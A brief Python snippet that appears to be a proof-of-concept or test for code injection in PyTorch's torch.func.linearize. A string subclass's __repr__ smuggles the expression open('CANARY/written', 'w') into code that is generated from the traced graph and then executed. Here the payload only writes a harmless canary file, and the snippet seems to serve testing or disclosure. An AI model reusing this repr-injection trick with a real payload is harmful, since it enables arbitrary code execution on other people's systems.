# Its graph becomes text, and the text is executed.
import torch

class Name(str):
    def __repr__(self):
        return "open('CANARY/written', 'w')"

torch.func.linearize(lambda x: x.sum(dim=0) * len(Name("a")), torch.ones(2))
open("CANARY/written", "w")
